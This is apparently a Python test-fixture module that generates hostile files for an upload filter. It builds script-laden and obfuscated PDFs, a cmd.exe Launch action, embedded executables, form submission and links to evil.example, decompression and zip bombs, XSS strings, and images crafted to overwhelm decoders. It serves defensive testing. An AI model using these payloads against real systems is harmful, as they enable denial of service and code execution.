"""Files that clients should not get past us: pictures that are none, PDFs that do something."""

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence
from typing import Any

from PIL import Image
from pypdf import PdfReader, PdfWriter

PAGE = (
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
)
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def make_pdf(*objects: bytes, catalog: bytes = b"", trailer: bytes = b"") -> bytes:
    """One page; `objects` are numbered from 4."""
    listed = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", *PAGE, *objects]
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(listed, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    start, count = len(made), len(listed) + 1
    made += b"xref\n0 %d\n0000000000 65535 f \n" % count
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (count, trailer, start)
    return made


def make_packed_pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    """The same with every object in a compressed object stream (ISO 32000-1, 7.5.7)."""
    listed = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", *PAGE, *objects]
    numbers, body = [], b""
    for number, one in enumerate(listed, 1):
        numbers.append(b"%d %d" % (number, len(body)))
        body += one + b"\n"
    head = b" ".join(numbers) + b"\n"
    packed = zlib.compress(head + body)
    own, index = len(listed) + 1, len(listed) + 2
    made = b"%PDF-1.7\n"
    entries = [(0, 0, 255), *((2, own, at) for at in range(len(listed))), (1, len(made), 0)]
    made += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        *(own, len(listed), len(head), len(packed)),
    )
    made += packed + b"\nendstream\nendobj\n"
    start = len(made)
    table = zlib.compress(b"".join(struct.pack(">BHB", *one) for one in [*entries, (1, start, 0)]))
    made += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n"
        % (index, index + 1, len(table))
    )
    return made + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(content), content)


PDF = make_pdf()
_BOMB = zlib.compress(b"\0" * 120_000_000, 9)
ACTIVE_PDFS = {
    "script": make_pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"),
    "script by another spelling": make_pdf(
        b"<</S/J#61va#53cript/J#53(x)>>", catalog=b"/OpenAction 4 0 R"
    ),
    "script in a packed part": make_packed_pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"),
    "script of a page in a packed part": make_packed_pdf(b"<</O " + SCRIPT + b">>"),
    "script of a name tree": make_packed_pdf(catalog=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>"),
    "program": make_packed_pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=b"/OpenAction 4 0 R"),
    "file inside": make_packed_pdf(
        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", catalog=b"/Names<</EmbeddedFiles 4 0 R>>"
    ),
    "XFA": make_packed_pdf(catalog=b"/AcroForm<</XFA[(a)4 0 R]/Fields[]>>"),
    "form that is sent off": make_packed_pdf(b"<</S/SubmitForm/F(https://evil.example)>>"),
    "other PDF": make_packed_pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"),
    "film": make_packed_pdf(b"<</Type/Annot/Subtype/RichMedia>>"),
    "page that calls out": make_packed_pdf(
        b"<</S/URI/URI(https://evil.example)>>", catalog=b"/OpenAction 4 0 R"
    ),
    "content elsewhere": make_pdf(stream(b"", b"/F(https://evil.example/x)")),
}
BROKEN_PDFS = {
    "only its first line": b"%PDF-1.7\n<script>alert(1)</script>",
    "a page of HTML": b"%PDF-1.7\n" + b"<img src=x onerror=alert(1)>" * 200,
    "no page": make_pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"),
    "bomb": make_pdf(stream(_BOMB, b"/Filter/FlateDecode")),
    "bomb in a bomb": make_pdf(stream(_BOMB, b"/Filter[/FlateDecode/FlateDecode]")),
    "nested without end": make_pdf(b"[" * 200_000),
    "itself its own parent": make_pdf(catalog=b"/AcroForm 1 0 R").replace(b"[3 0 R]", b"[2 0 R]"),
}


def lock(password: str, content: bytes = PDF) -> bytes:
    """Encrypted; without a password for reading it opens for everybody."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    writer.encrypt(password, owner_password="owner-only", algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **more: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, kind, **more)
    return made.getvalue()


def zipped(*names: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name in names or ("zeros",):
            bomb.writestr(name, b"\0" * 5_000_000)
    return made.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose first line claims so many pixels."""
    return _png(width, height, zlib.compress(b"\0" * 10_000))


def _png(width: int, height: int, packed: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts: Sequence[tuple[bytes, bytes]] = ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
    made = b"\x89PNG\r\n\x1a\n"
    for name, content in parts:
        made += struct.pack(">I", len(content)) + name + content
        made += struct.pack(">I", zlib.crc32(name + content))
    return made


def webp_claiming() -> bytes:
    """A lossless WebP whose head claims 16,383 by 16,383 pixels."""
    made = picture("WEBP", lossless=True)
    place = made.index(b"VP8L") + 9
    size = (16_382 | 16_382 << 14).to_bytes(4, "little")
    return made[:place] + size + made[place + 4 :]


def slow_jpeg() -> bytes:
    """Six thousand by six thousand pixels in thousands of scans: small to send, long to draw."""
    made = picture("JPEG", (6000, 6000), progressive=True)
    start = made.index(b"\xff\xda", made.index(b"\xff\xda") + 2)
    following = made.find(b"\xff\xda", start + 2)
    scan = made[start : following if following > 0 else -2]
    return made[:-2] + scan * min(60_000, 9_000_000 // len(scan)) + made[-2:]
